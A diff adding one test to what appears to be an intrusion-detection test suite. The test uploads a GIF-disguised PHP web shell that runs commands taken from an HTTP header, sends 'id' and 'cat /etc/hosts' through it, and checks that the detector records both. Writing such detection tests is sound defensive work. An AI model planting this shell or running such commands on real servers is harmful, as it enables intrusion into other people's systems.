@@ -109,6 +109,14 @@ def test_a_shell_that_was_there_before_leaves_its_weakness_open(wire, tmp_path):
     assert cwes(finding) == ["CWE-506"]
 
 
+def test_commands_in_a_header_of_its_own_are_read(wire, tmp_path):
+    wire.upload(ATTACKER, "logo.php", "GIF89a<?php echo shell_exec($_SERVER['HTTP_X_RUN']); ?>")
+    for command in ("id", "cat /etc/hosts"):
+        wire.web(ATTACKER, f"GET /img/logo.php HTTP/1.1\r\nX-Run: {command}\r\nX-Was:", b"uid=33(www-data)")
+    (finding,) = wire.findings(tmp_path)
+    assert [one["command"] for one in phases(finding)["web-shell"]["commands"]] == ["id", "cat /etc/hosts"]
+
+
 def test_guessing_at_mailboxes_that_opened_one_is_a_break_in(wire, tmp_path):
     for number in range(14):
         wire.imap(ATTACKER, f"user{number % 7}", let_in=False)
